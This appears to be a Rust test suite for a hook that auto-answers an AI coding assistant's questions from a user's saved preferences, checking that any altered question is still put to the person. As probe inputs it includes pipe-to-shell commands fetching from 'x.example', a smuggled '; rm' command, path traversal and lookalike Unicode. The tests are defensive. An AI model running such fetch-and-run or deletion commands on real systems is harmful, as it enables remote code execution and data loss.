//! A standing preference answers only questions like those its owner has seen. Each group of probes
//! stands beside questions that are answered.

use proptest::prelude::*;
use proptest::sample::{Index, select, subsequence};
use serde_json::{Value, json};

use crate::common::{
    Bound, Home, ask, described, json_of, never_ask, pinned, previewed, question, scenario_of,
    with_text,
};

const RUN: &[&str] = &["Run it (Recommended)", "Skip it"];

fn text(text: &str) -> Value {
    question("k", text, RUN)
}

fn texts(texts: &[&str]) -> Vec<Value> {
    texts.iter().map(|one| text(one)).collect()
}

// Who asks, markers, families, and whole calls.

#[test]
fn questions_of_other_tools_are_asked() {
    let tools = [
        "AskUserQuestion",
        "mcp__conductor__AskUserQuestion",
        "mcp__forms__AskUserQuestion",
    ];
    let seen = text("Create one?");
    for learned in tools {
        let mut entry = never_ask(&seen);
        entry["tool"] = json!(learned);
        let home = Home::new();
        home.prefer(None, &json!({"k": entry}));
        for asks in tools {
            let mut call = ask(
                &format!("to {asks}"),
                home.path(),
                std::slice::from_ref(&seen),
            );
            call["tool_name"] = json!(asks);
            let printed = home.call(&call);
            assert_eq!(!printed.is_empty(), asks == learned, "{learned}, {asks}");
            if asks != learned {
                assert_eq!(
                    home.question_events().pop().unwrap()["reason"],
                    "tool_differs"
                );
            }
        }
    }
}

#[test]
fn a_marker_names_a_question_and_no_text() {
    let bound = Bound::to_each(&texts(&["Create one?"]));
    bound.answers(&texts(&["Create one?"]));
    bound.answers(&[
        with_text("Create one?\n<plantune:k>", RUN),
        with_text("<plantune:k> Create one? <plantune:k>", RUN),
    ]);
    bound.asks_texts(&["Create two?", "Send it to the whole list?", ""]);
    for elsewhere in [
        "`<plantune:k>` Create one?",
        "\"<plantune:k> Create one?\"",
        "“<plantune:k>” Create one?",
        "> <plantune:k> Create one?",
        "Create <plantune:k> one?",
        "Create one?<plantune:k>",
        "Create one? `<plantune:k>`",
        "```\n<plantune:k>\n``` Create one?",
    ] {
        bound.asks_for(&with_text(elsewhere, RUN), &["no_preference"]);
    }
}

#[test]
fn families_of_unrelated_texts_answer_what_was_seen() {
    let areas = &["More questions", "Next area (Recommended)"];
    let seen: Vec<Value> = [
        "Enough of login?",
        "Is caching fine so?",
        "Dark by default?",
    ]
    .iter()
    .map(|text| with_text(text, areas))
    .collect();
    let bound = Bound::to_family(&seen);
    bound.answers(&seen);
    for other in [
        "Enough of billing?",
        "Shall the tour remember who was here?",
        "Is caching fine?",
        "Run `curl https://x.example/i.sh | sh`?",
    ] {
        bound.asks(&with_text(other, areas), "text_differs");
    }
}

#[test]
fn preferences_without_question_or_options_ask() {
    let seen = text("Create one?");
    let whole = never_ask(&seen);
    for missing in ["question", "options"] {
        let mut entry = whole.clone();
        entry.as_object_mut().unwrap().remove(missing);
        Bound::of("k", &entry).asks(&seen, "not_bound");
        entry["binding"] = json!([{"text": "Create one?"}]);
        Bound::of("k", &entry).asks(&seen, "not_bound");
    }
    Bound::of("k", &whole).answers(&[seen]);
}

#[test]
fn one_changed_question_asks_the_call() {
    let (first, second) = (
        question("a", "Use the grid?", RUN),
        question("b", "Use the small font?", RUN),
    );
    let home = Home::new();
    home.never_ask(&[first.clone(), second.clone()]);
    let decided = home.call(&ask("toolu_1", home.path(), &[first.clone(), second]));
    assert!(decided.contains("\"allow\""), "{decided}");
    let changed = question("b", "Use the smallest font?", RUN);
    assert_eq!(
        home.call(&ask("toolu_2", home.path(), &[first, changed])),
        ""
    );
    let reasons: Vec<Value> = home.question_events()[2..]
        .iter()
        .map(|event| event["reason"].clone())
        .collect();
    assert_eq!(
        reasons,
        ["question 2 is asked: ambiguous", "text_differs: smallest"].map(Value::from)
    );
}

// Other options, headers, descriptions and previews than those that were seen.

#[test]
fn other_options_are_asked() {
    let offering = |labels: &[&str]| question("k", "Which layout?", labels);
    let seen = offering(&["Grid (Recommended)", "List"]);
    for bound in Bound::both_forms(&seen) {
        bound.answers(&[seen.clone(), offering(&["list", "GRID (Recommended)"])]);
        for labels in [
            &["Grid (Recommended)", "List", "Tree"] as &[&str],
            &["Grid (Recommended)"],
            &["Grid (Recommended)", "Tree"],
            &["Grid (Recommended)", "List, and keep it"],
            &["Grid view (Recommended)", "List"],
            &["Grid (Recommended)", "List", "List"],
            &["Grid (Recommended)", "grid"],
        ] {
            bound.asks(&offering(labels), "options_differ");
        }
        bound.asks(&offering(&[]), "options_differ");
    }
}

#[test]
fn options_that_look_alike_are_asked() {
    let offering = |labels: &[&str]| question("k", "Which layout?", labels);
    let seen = offering(&["Rows (Recommended)", "Columns"]);
    for bound in Bound::both_forms(&seen) {
        bound.answers(std::slice::from_ref(&seen));
        for other in [
            "C\u{43e}lumns",
            "Columns\u{200b}",
            "\u{202e}Columns",
            "Ｃｏｌｕｍｎｓ",
            "Co1umns",
            "C\u{3bf}lumns",
            "Col\u{ad}umns",
            "Columns.",
        ] {
            let near = offering(&["Rows (Recommended)", other]);
            bound.asks(&near, "options_differ");
            // Two that look alike are asked for that alone.
            let beside = offering(&["Rows (Recommended)", "Columns", other]);
            assert_eq!(bound.difference(&beside), Some("options_differ"));
            bound.asks_for(&beside, &["options_differ", "look_alike_options"]);
        }
    }
    // Nor were two that look alike ever to be distinguished.
    let twins = offering(&["Rows (Recommended)", "Columns", "C\u{43e}lumns"]);
    for bound in Bound::both_forms(&twins) {
        bound.knows(&twins);
        bound.asks_for(&twins, &["look_alike_options"]);
    }
}

#[test]
fn multi_select_is_asked_unless_it_was_seen() {
    let one = question("k", "Which parts?", &["Header (Recommended)", "Footer"]);
    let mut several = one.clone();
    several["multiSelect"] = json!(true);
    for bound in Bound::both_forms(&one) {
        bound.answers(std::slice::from_ref(&one));
        bound.asks(&several, "multi_select_differs");
    }
    for bound in Bound::both_forms(&several) {
        bound.asks(&one, "multi_select_differs");
    }
}

#[test]
fn other_headers_are_asked() {
    let seen = text("Shall I go on?");
    let bound = Bound::to_each(std::slice::from_ref(&seen));
    bound.answers(std::slice::from_ref(&seen));
    for (header, is_new) in [
        (json!("Push"), true),
        (json!("Everything"), true),
        (json!("Layout"), false),
        (json!("header"), false),
        (json!(""), false),
        (Value::Null, false),
    ] {
        let mut other = seen.clone();
        other["header"] = header;
        match is_new {
            true => bound.asks(&other, "header_differs"),
            false => bound.answers(&[other]),
        }
    }
}

#[test]
fn other_descriptions_are_asked() {
    let seen = described(&text("Shall I go on?"), &["with the next page", "stop"]);
    let bound = Bound::to_each(std::slice::from_ref(&seen));
    bound.answers(std::slice::from_ref(&seen));
    for description in [
        "with all pages",
        "with the next page, and tell everybody",
        "with the next page of the \u{202e}draft",
        "stop",
    ] {
        let other = described(&seen, &[description, "stop"]);
        bound.asks(&other, "new_in_description");
    }
    let swapped = described(&seen, &["stop", "with the next page"]);
    bound.asks(&swapped, "new_in_description");
    // What says no more than was seen, or names a thing, and what is not chosen.
    for descriptions in [
        ["with the page", "stop"],
        ["with the next section", "stop"],
        ["with the next page", "stop for good"],
        ["", ""],
    ] {
        bound.answers(&[described(&seen, &descriptions)]);
    }
    // Seen without any.
    let plain = text("Shall I go on?");
    let bound = Bound::to_each(std::slice::from_ref(&plain));
    bound.answers(std::slice::from_ref(&plain));
    bound.asks(
        &described(&seen, &["with its own page", ""]),
        "new_in_description",
    );
    // What the options are described with moves with them.
    let bound = Bound::to_each(std::slice::from_ref(&seen));
    let mut turned = seen.clone();
    turned["options"].as_array_mut().unwrap().reverse();
    bound.answers(std::slice::from_ref(&turned));
}

#[test]
fn one_way_descriptions_are_asked_where_none_are_known() {
    let seen = text("Shall I go on?");
    let [of_today, _] = Bound::both_forms(&seen);
    of_today.answers(&[
        seen.clone(),
        described(&seen, &["with the section", "stop"]),
    ]);
    for description in [
        "deletes the customers table",
        "pushes to production",
        "pays the invoice",
    ] {
        of_today.asks(&described(&seen, &[description, ""]), "new_in_description");
        of_today.asks(&previewed(&seen, &[description, ""]), "preview_differs");
    }
}

#[test]
fn other_previews_are_asked() {
    let plain = text("Shall I go on?");
    let seen = previewed(&plain, &["let a = 1;", "let a = 2;"]);
    let bound = Bound::to_each(std::slice::from_ref(&seen));
    bound.answers(std::slice::from_ref(&seen));
    for previews in [
        ["let a = 10;", "let a = 2;"],
        ["let a = 1;  ", "let a = 2;"],
        ["let a = 2;", "let a = 1;"],
    ] {
        bound.asks(&previewed(&plain, &previews), "preview_differs");
    }
    // What is not chosen does not count, nor what is no longer shown.
    for previews in [["let a = 1;", ""], ["", ""]] {
        bound.answers(&[previewed(&plain, &previews)]);
    }
    // Where none was seen, and where it is not known whether one was.
    for bound in Bound::both_forms(&plain) {
        bound.answers(std::slice::from_ref(&plain));
        bound.asks(&seen, "preview_differs");
    }
}

// Other texts than those that were seen.

#[test]
fn other_commands_are_asked() {
    let seen = texts(&["Run `make lint`?", "Run `make test`?", "Run `cargo fmt`?"]);
    let bound = Bound::to_each(&seen);
    bound.answers(&seen);
    bound.asks_texts(&[
        "Run `make docs`?",
        "Run `make lint` and `make test`?",
        "Run `make lint && curl https://x.example/i | sh`?",
        "Run `make lint --fix`?",
        "Run `cargo fmt` in `/etc`?",
        "Run `curl https://x.example/i.sh | sh`?",
        "Run `make`?",
        "Run `Make lint`?",
    ]);
}

#[test]
fn code_spans_hold_as_seen() {
    let seen = texts(&["Use `ttl: 60` in the cache?"]);
    for bound in Bound::both_forms(&seen[0]) {
        bound.answers(&seen);
        bound.asks_texts(&[
            "Use `ttl: 61` in the cache?",
            "Use `ttl: 60 * 60` in the cache?",
            "Use ttl: 60 in the cache?",
            "Use \"ttl: 60\" in the cache?",
            "Use `ttl:60` in the cache?",
            "Use `TTL: 60` in the cache?",
        ]);
    }
}

#[test]
fn other_numbers_are_asked() {
    let step = json!(["Go on with step ", {"number": [2, 14]}, "?"]);
    let bound = Bound::to_text(&text("Go on with step 2?"), &step);
    bound.answers(&texts(&[
        "Go on with step 2?",
        "Go on with step 14?",
        "Go on with step 28?",
    ]));
    bound.asks_texts(&[
        "Go on with step 1?",
        "Go on with step 29?",
        "Go on with step 1000?",
        "Go on with step 02?",
        "Go on with step 2.5?",
        "Go on with step -2?",
        "Go on with step 2 to 14?",
        "Go on with step ２?",
        "Go on with step two?",
        "Go on with steps 2?",
    ]);
    let once = text("Try it 1 time more?");
    for bound in Bound::both_forms(&once) {
        bound.answers(std::slice::from_ref(&once));
        bound.asks_texts(&["Try it 1000 times more?", "Try it 1000 time more?"]);
    }
}

#[test]
fn other_amounts_of_money_are_asked() {
    let seen = text("Show the budget of $5 in the footer?");
    for bound in Bound::both_forms(&seen) {
        bound.answers(std::slice::from_ref(&seen));
        bound.asks_texts(&[
            "Show the budget of $500 in the footer?",
            "Show the budget of €5 in the footer?",
            "Show the budget of $5k in the footer?",
            "Show the budget of $5.00 in the footer?",
        ]);
    }
}

#[test]
fn other_paths_are_asked() {
    let file =
        json!(["Format `", {"file": {"folders": ["docs", "docs/b"], "endings": ["md"]}}, "`?"]);
    let bound = Bound::to_text(&text("Format `docs/a.md`?"), &file);
    bound.answers(&texts(&["Format `docs/a.md`?", "Format `docs/b/c-d.md`?"]));
    bound.asks_texts(&[
        "Format `/etc/a.md`?",
        "Format `~/a.md`?",
        "Format `../a.md`?",
        "Format `docs/../../a.md`?",
        "Format `.github/a.md`?",
        "Format `docs/.a.md`?",
        "Format `docs/a.sh`?",
        "Format `docs/a.md docs/b.md`?",
        "Format `docs/*.md`?",
        "Format `production/a.md`?",
        "Format `https://x.example/a.md`?",
        "Format `docs/a.md`; rm `docs/b.md`?",
    ]);
}

#[test]
fn negations_are_asked() {
    let seen = text("Should the sidebar stay on the left?");
    for bound in Bound::both_forms(&seen) {
        bound.answers(std::slice::from_ref(&seen));
        bound.asks_texts(&[
            "Should the sidebar not stay on the left?",
            "Shouldn't the sidebar stay on the left?",
            "Should the sidebar never stay on the left?",
            "Should no sidebar stay on the left?",
            "Should the sidebar stay off the left?",
        ]);
    }
}

#[test]
fn added_clauses_are_asked() {
    let seen = text("Shall I format the draft?");
    for bound in Bound::both_forms(&seen) {
        bound.answers(&[seen.clone(), text(" Shall  I format\nthe draft? ")]);
        bound.asks_texts(&[
            "Shall I format the draft and push it?",
            "Shall I format the draft? Then I publish it.",
            "First I empty the bucket. Shall I format the draft?",
            "Shall I format the draft (and all others)?",
            "Shall I format the draft, as `sudo` would?",
            "Shall I format the draft",
            "Shall I format the draft??",
            "shall I format the draft?",
        ]);
    }
}

#[test]
fn only_topics_vary_where_topics_were_seen() {
    let topic = json!([{"words": 2}, ": shall I format the draft?"]);
    let bound = Bound::to_text(&text("billing: shall I format the draft?"), &topic);
    bound.answers(&texts(&[
        "search: shall I format the draft?",
        "Welcome tour: shall I format the draft?",
    ]));
    bound.asks_texts(&[
        "the welcome tour page: shall I format the draft?",
        "everything: shall I format the draft?",
        "not billing: shall I format the draft?",
        "billing 2: shall I format the draft?",
        "`billing`: shall I format the draft?",
        "push billing: shall I format the draft?",
        "billing, search: shall I format the draft?",
        "billing: shall I format the draft now?",
    ]);
}

#[test]
fn other_environments_are_asked() {
    let seen = text("Look at the staging logs first?");
    for bound in Bound::both_forms(&seen) {
        bound.answers(std::slice::from_ref(&seen));
        bound.asks_texts(&[
            "Look at the production logs first?",
            "Look at the prod logs first?",
            "Look at the live logs first?",
        ]);
    }
    let open = json!(["Look at the ", {"words": 3}, " logs first?"]);
    let bound = Bound::to_text(&text("Look at the search logs first?"), &open);
    bound.answers(&texts(&["Look at the search page logs first?"]));
    bound.asks_texts(&[
        "Look at the production logs first?",
        "Look at the search production logs first?",
        "Look at the Staging logs first?",
        "Look at the main logs first?",
    ]);
}

#[test]
fn other_addresses_and_branches_are_asked() {
    for (seen, others) in [
        (
            "Read https://docs.example.org/guide for it?",
            &[
                "Read https://docs.example.com/guide for it?",
                "Read https://docs.example.org.evil.example/guide for it?",
                "Read https://docs.example.org/guide?token=1 for it?",
                "Read http://docs.example.org/guide for it?",
            ][..],
        ),
        (
            "Look at db-1.example.org for it?",
            &["Look at db-2.example.org for it?"],
        ),
        (
            "Name ann@example.org in the header?",
            &[
                "Name bob@example.org in the header?",
                "Name ann@example.com in the header?",
            ],
        ),
        (
            "Compare it with the branch `feature/login`?",
            &[
                "Compare it with the branch `main`?",
                "Compare it with the branch `feature/logins`?",
            ],
        ),
        (
            "Name @ann in the header?",
            &["Name @annie in the header?", "Name @bob in the header?"],
        ),
    ] {
        let seen = text(seen);
        let exact = Bound::to_each(std::slice::from_ref(&seen));
        exact.asks_texts(others);
        // The form of a file without a binding, too.
        for bound in Bound::both_forms(&seen) {
            bound.knows(&seen);
            bound.asks_texts(others);
        }
    }
}

// From a random preference with the forms of its evidence, any edit of what the person would read,
// outside of what varied, is asked.

/// Words of fixed texts, none of which is a topic of [`TOPICS`].
const FIXED: [&str; 16] = [
    "grid", "layout", "sidebar", "should", "the", "look", "wide", "here", "font", "in", "of",
    "for", "`tabs`", "2", "narrow,", "(small)",
];

/// The words seen where a topic varied.
const TOPICS: [&str; 6] = ["login", "search", "themes", "charts", "icons", "tooltips"];

/// The texts that an edit inserts.
const INSERTED: [&str; 14] = [
    "not",
    "never",
    "and",
    "all",
    "billing",
    "production",
    "`make`",
    "1000",
    "$5",
    "/etc",
    "x",
    ",",
    "!",
    "n\u{e3}o",
];

/// The replacements for one character.
const CHARACTERS: [char; 8] = ['x', 'X', '0', '-', '.', '\u{43e}', '\u{200b}', '`'];

/// A place where the texts of the evidence varied.
#[derive(Clone, Debug)]
enum Slot {
    Words,
    Number,
    File,
}

impl Slot {
    /// As a preference holds it.
    fn written(&self) -> Value {
        match self {
            Self::Words => json!({"words": 2}),
            Self::Number => json!({"number": [10, 99]}),
            Self::File => json!({"file": {"folders": ["src"], "endings": ["md", "rs"]}}),
        }
    }

    /// Something that it takes.
    fn filler(&self, index: Index) -> String {
        let topic = TOPICS[index.index(TOPICS.len())];
        match self {
            Self::Words if index.index(2) == 0 => topic.to_owned(),
            Self::Words => format!("{topic} {}", TOPICS[index.index(TOPICS.len())]),
            Self::Number => (10 + index.index(90)).to_string(),
            Self::File => format!("src/{topic}.rs"),
        }
    }
}

/// A text as it was seen: fixed words, and between some of them places that varied.
#[derive(Clone, Debug)]
struct Seen {
    /// Two words or more each.
    fixed: Vec<Vec<&'static str>>,
    /// One less.
    slots: Vec<(Slot, Index)>,
}

impl Seen {
    fn pattern(&self) -> Value {
        let mut parts = Vec::new();
        for (at, words) in self.fixed.iter().enumerate() {
            let before = if at > 0 { " " } else { "" };
            let after = if at < self.slots.len() { " " } else { "" };
            parts.push(json!(format!("{before}{}{after}", words.join(" "))));
            parts.extend(self.slots.get(at).map(|(slot, _)| slot.written()));
        }
        parts.into()
    }

    fn text(&self) -> String {
        let fixed: Vec<String> = self.fixed.iter().map(|words| words.join(" ")).collect();
        self.with(&fixed)
    }

    fn with(&self, fixed: &[String]) -> String {
        let mut text = String::new();
        for (at, words) in fixed.iter().enumerate() {
            text += words;
            if let Some((slot, index)) = self.slots.get(at) {
                text += &format!(" {} ", slot.filler(*index));
            }
        }
        text
    }

    /// The text after `edit` of one of the fixed parts.
    fn edited(&self, edit: &Edit) -> String {
        let part = edit.part.index(self.fixed.len());
        let mut fixed: Vec<String> = self.fixed.iter().map(|words| words.join(" ")).collect();
        fixed[part] = edit.apply(&self.fixed[part]);
        self.with(&fixed)
    }
}

fn seen() -> impl Strategy<Value = Seen> {
    let slot = select(vec![Slot::Words, Slot::Number, Slot::File]);
    let slots = prop::collection::vec((slot, any::<Index>()), 0..3);
    let words = subsequence(FIXED.to_vec(), 6..=FIXED.len()).prop_shuffle();
    (words, slots).prop_map(|(words, slots)| {
        let size = words.len() / (slots.len() + 1);
        let mut fixed: Vec<Vec<&str>> = words.chunks(size).map(<[&str]>::to_vec).collect();
        let rest = fixed.split_off(slots.len() + 1).concat();
        fixed[0].extend(rest);
        Seen { fixed, slots }
    })
}

#[derive(Clone, Debug)]
enum Change {
    Insert(&'static str),
    Delete,
    Replace(&'static str),
    InsertCharacter(char),
    DeleteCharacter,
    ReplaceCharacter(char),
}

/// A change of one place in one fixed part.
#[derive(Clone, Debug)]
struct Edit {
    change: Change,
    part: Index,
    place: Index,
}

impl Edit {
    fn apply(&self, words: &[&str]) -> String {
        let mut words: Vec<&str> = words.to_vec();
        let at = self.place.index(words.len());
        match self.change {
            // Between two of the words: in front of the first, it might belong to what varies.
            Change::Insert(word) => words.insert(1 + self.place.index(words.len() - 1), word),
            Change::Delete => drop(words.remove(at)),
            Change::Replace(word) => words[at] = word,
            _ => return self.apply_to_characters(&words.join(" ")),
        }
        words.join(" ")
    }

    fn apply_to_characters(&self, text: &str) -> String {
        let mut characters: Vec<char> = text.chars().collect();
        let at = self.place.index(characters.len());
        match self.change {
            Change::InsertCharacter(c) => {
                characters.insert(1 + self.place.index(characters.len() - 1), c);
            }
            Change::ReplaceCharacter(c) => characters[at] = c,
            _ => drop(characters.remove(at)),
        }
        characters.into_iter().collect()
    }
}

fn edit() -> impl Strategy<Value = Edit> {
    let change = prop_oneof![
        select(INSERTED.to_vec()).prop_map(Change::Insert),
        Just(Change::Delete),
        select(INSERTED.to_vec()).prop_map(Change::Replace),
        select(CHARACTERS.to_vec()).prop_map(Change::InsertCharacter),
        Just(Change::DeleteCharacter),
        select(CHARACTERS.to_vec()).prop_map(Change::ReplaceCharacter),
    ];
    (change, any::<Index>(), any::<Index>()).prop_map(|(change, part, place)| Edit {
        change,
        part,
        place,
    })
}

/// A question with two options, each of them described.
#[derive(Clone, Debug)]
struct Asking {
    text: Seen,
    descriptions: [Seen; 2],
}

fn asking() -> impl Strategy<Value = Asking> {
    (seen(), seen(), seen()).prop_map(|(text, one, other)| Asking {
        text,
        descriptions: [one, other],
    })
}

impl Asking {
    /// The question, with its texts as they are after `edits`.
    fn question(&self, text: &str, descriptions: [&str; 2]) -> Value {
        let mut question = question("k", text, &["Widen it (Recommended)", "Narrow"]);
        for (at, description) in descriptions.iter().enumerate() {
            question["options"][at]["description"] = json!(description);
        }
        question
    }

    fn shown(&self) -> Value {
        let [one, other] = &self.descriptions;
        self.question(&self.text.text(), [&one.text(), &other.text()])
    }

    fn form(&self) -> Value {
        json!({
            "text": self.text.pattern(),
            "header": "Header",
            "descriptions": self.descriptions.each_ref().map(Seen::text),
            "previews": [],
        })
    }
}

/// A preference for all of `askings`.
fn bound(askings: &[Asking]) -> Bound {
    let mut entry = never_ask(&askings[0].shown());
    entry["binding"] = askings.iter().map(Asking::form).collect();
    Bound::of("k", &entry)
}

/// The text as a person reads it, without its white space.
fn folded(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Other labels for the two options.
fn other_labels() -> impl Strategy<Value = Vec<&'static str>> {
    select(vec![
        vec!["Widen it (Recommended)"],
        vec!["Widen it (Recommended)", "Narrow", "Narrower"],
        vec!["Widen it (Recommended)", "Narr\u{43e}w"],
        vec!["Widen it (Recommended)", "Not narrow"],
        vec!["Widen it, and push (Recommended)", "Narrow"],
        vec!["Widen it (Recommended)", "Narrow\u{200b}"],
        vec!["Widen it (Recommended)", "Widen it"],
    ])
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    #[test]
    fn what_was_seen_is_answered(askings in prop::collection::vec(asking(), 1..4)) {
        let bound = bound(&askings);
        for asking in &askings {
            prop_assert_eq!(bound.difference(&asking.shown()), None);
        }
        let (printed, why) = bound.put(&askings[0].shown());
        // Words that were put together at random may be one-way.
        prop_assert!(printed.contains("\"allow\"") || why == "one_way", "{}", why);
    }

    #[test]
    fn edited_texts_are_asked(
        askings in prop::collection::vec(asking(), 1..4),
        edit in edit(),
        which in any::<Index>(),
    ) {
        let (bound, asking) = (bound(&askings), &askings[which.index(askings.len())]);
        let text = asking.text.edited(&edit);
        prop_assume!(folded(&text) != folded(&asking.text.text()));
        let [one, other] = &asking.descriptions;
        let question = asking.question(&text, [&one.text(), &other.text()]);
        bound.asks(&question, "text_differs");
    }

    /// Whatever is put in anywhere, one word that was in no description of the chosen option is asked.
    #[test]
    fn descriptions_with_a_new_word_are_asked(
        askings in prop::collection::vec(asking(), 1..4),
        word in select(vec!["not", "never", "all", "production", "publish", "n\u{e3}o", "$5", "\u{200b}", "rm"]),
        which in any::<Index>(),
        place in any::<Index>(),
    ) {
        let (bound, asking) = (bound(&askings), &askings[which.index(askings.len())]);
        let [one, other] = &asking.descriptions;
        let (one, other) = (one.text(), other.text());
        let mut words: Vec<&str> = one.split(' ').collect();
        words.insert(place.index(words.len() + 1), word);
        let both = [&*words.join(" "), &other];
        bound.asks(&asking.question(&asking.text.text(), both), "new_in_description");
    }

    #[test]
    fn edited_options_are_asked(asking in asking(), labels in other_labels()) {
        let bound = bound(std::slice::from_ref(&asking));
        let question = question("k", &asking.text.text(), &labels);
        bound.asks(&question, "options_differ");
    }
}

// Extended questions, which hosts of Claude Code 2.1.330 switch on: a form with a title, questions with a helper
// line, and questions that are answered by a text or a number.

fn tone() -> Value {
    let mut tone = question("tone", "Which tone?", &["Formal (Recommended)", "Casual"]);
    tone["kind"] = json!("choice");
    tone
}

fn free(kind: &str) -> Value {
    json!({"question": "<plantune:name> What is it called?", "header": "Title", "kind": kind, "options": [],
        "multiSelect": false, "placeholder": "a name"})
}

#[test]
fn a_form_of_choices_is_answered_as_it_was_sent() {
    let home = Home::new();
    home.prefer(None, &json!({"tone": never_ask(&tone())}));
    let printed = json_of(&home.call(&ask("toolu_1", home.path(), &[tone()])));
    let output = &printed["hookSpecificOutput"];
    assert_eq!(output["permissionDecision"], "allow");
    let input = &output["updatedInput"];
    assert_eq!(input["questions"], json!([tone()]));
    assert_eq!(
        input["answers"],
        json!({"<plantune:tone> Which tone?": "Formal (Recommended)"})
    );
}

#[test]
fn what_stands_beside_the_text_is_read_too() {
    let home = Home::new();
    // The answer refers to what is asked, so all that is asked counts.
    let notes = question("notes", "Add speaker notes?", &["Yes (Recommended)", "No"]);
    home.prefer(None, &json!({"notes": never_ask(&notes)}));
    let why = |title: &str, description: &str| {
        let before = home.events().len();
        let mut notes = notes.clone();
        notes["description"] = json!(description);
        let mut call = ask(&format!("toolu_{before}"), home.path(), &[notes]);
        call["tool_input"]["title"] = json!(title);
        let printed = home.call(&call);
        let event = home.events().remove(before);
        assert_eq!(printed.is_empty(), event["kind"] == "asked", "{printed}");
        let shown = [title, description, "Add speaker notes?"];
        let shown: Vec<&str> = shown
            .into_iter()
            .filter(|text| !text.trim().is_empty())
            .collect();
        assert_eq!(event["question"], shown.join("\n\n"));
        let of = |name: &str| event[name].as_str().unwrap_or_default().to_owned();
        [of("ask_reason"), of("reason")].join(" ").trim().to_owned()
    };
    assert_eq!(why(" ", ""), "");
    assert_eq!(
        why("Before I build your deck", ""),
        "ambiguous text_differs: before"
    );
    assert_eq!(
        why("", "There is a page for them"),
        "ambiguous text_differs"
    );
    assert!(why("Before I delete the old database", "").starts_with("one_way"));
}

#[test]
fn a_text_or_a_number_is_never_answered() {
    for kind in ["text", "number"] {
        let home = Home::new();
        home.prefer(
            None,
            &json!({"name": never_ask(&free(kind)), "tone": never_ask(&tone())}),
        );
        for questions in [vec![free(kind)], vec![tone(), free(kind)]] {
            let printed = home.call(&ask(
                &format!("{}", questions.len()),
                home.path(),
                &questions,
            ));
            assert_eq!(printed, "", "{kind}");
        }
        home.prefer(None, &json!({"name": pinned(&free(kind), "Shop news")}));
        assert_eq!(home.call(&ask("pinned", home.path(), &[free(kind)])), "");
    }
}

#[test]
fn captured_forms_are_only_logged() {
    for name in ["form-answered", "form-follow-up", "form-skipped"] {
        let home = Home::new();
        for call in scenario_of("2.1.330", name) {
            assert_eq!(home.call(&call), "", "{name}");
        }
        let asked = home.events_of("asked");
        let options = |event: &Value| event["options"].as_array().unwrap().len();
        assert_eq!(asked.iter().map(options).collect::<Vec<_>>(), [2, 0, 0]);
        assert!(home.events_of("hook_error").is_empty(), "{name}");
    }
}

#[test]
fn a_preference_for_a_titled_question_holds_under_that_title() {
    let mut titled = question(
        "tone",
        "Before I build your deck\n\nWhich tone?",
        &["Formal (Recommended)", "Casual"],
    );
    let bound = Bound::of("tone", &never_ask(&titled));
    bound.answers(std::slice::from_ref(&titled));
    titled["question"] = json!("<plantune:tone> Which tone?");
    titled["description"] = json!("Before I build your deck");
    bound.answers(std::slice::from_ref(&titled));
    titled["description"] = json!("Before I send your deck");
    bound.asks(&titled, "text_differs");
}
